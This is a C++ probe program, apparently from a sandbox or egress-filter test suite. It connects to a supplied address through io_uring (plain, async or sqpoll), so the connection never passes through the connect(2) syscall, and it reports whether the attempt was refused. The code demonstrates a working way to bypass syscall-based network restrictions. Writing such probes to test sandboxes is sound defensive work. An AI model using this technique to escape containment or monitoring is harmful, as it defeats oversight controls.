// SPDX-License-Identifier: Apache-2.0
// io_uring plain|async|sqpoll ADDRESS: the connect is a ring entry. `async` moves it to a kernel worker of the
// caller, `sqpoll` to a kernel thread that polls the ring: neither enters connect(2).
#include "attack.h"

#include <liburing.h>

#include <cerrno>
#include <cstring>

namespace {

constexpr auto kUsageText = "io_uring plain|async|sqpoll ADDRESS";
constexpr unsigned int kEntries = 4;
constexpr unsigned int kPollIdleMs = 100;

/// Result of one ring entry that connects, or a negative errno.
int ring_connect(io_uring& ring, int fd, const attack::Target& target, bool is_async)
{
    io_uring_sqe* entry = io_uring_get_sqe(&ring);
    if (entry == nullptr) {
        return -EBUSY;
    }
    io_uring_prep_connect(entry, fd, const_cast<sockaddr*>(target.raw()), target.size); // only read
    entry->flags |= is_async ? IOSQE_ASYNC : 0U;
    const int submitted = io_uring_submit(&ring);
    if (submitted < 0) {
        return submitted;
    }
    io_uring_cqe* done = nullptr;
    __kernel_timespec limit{};
    limit.tv_sec = attack::kDeadlineMs / 1000;
    const int waited = io_uring_wait_cqe_timeout(&ring, &done, &limit);
    if (waited < 0) {
        return waited;
    }
    const int outcome = done->res;
    io_uring_cqe_seen(&ring, done);
    return outcome;
}

} // namespace

int main(int argc, char** argv)
{
    if (argc != 3) {
        attack::usage(kUsageText);
    }
    const attack::Target target = attack::require_target(argv[2]);
    const attack::Stopwatch watch;
    io_uring_params params{};
    if (std::strcmp(argv[1], "sqpoll") == 0) {
        params.flags = IORING_SETUP_SQPOLL;
        params.sq_thread_idle = kPollIdleMs;
    }
    io_uring ring{};
    const int made = io_uring_queue_init_params(kEntries, &ring, &params);
    if (made < 0) {
        attack::cannot_try("io_uring_setup", -made);
    }
    const int fd = attack::make_socket(target.family(), SOCK_STREAM, 0, watch);
    attack::set_deadline(fd);
    const int outcome = ring_connect(ring, fd, target, std::strcmp(argv[1], "async") == 0);
    if (outcome < 0) {
        attack::refused("IORING_OP_CONNECT", -outcome, watch);
    }
    attack::exchange(fd, "io_uring", watch);
}
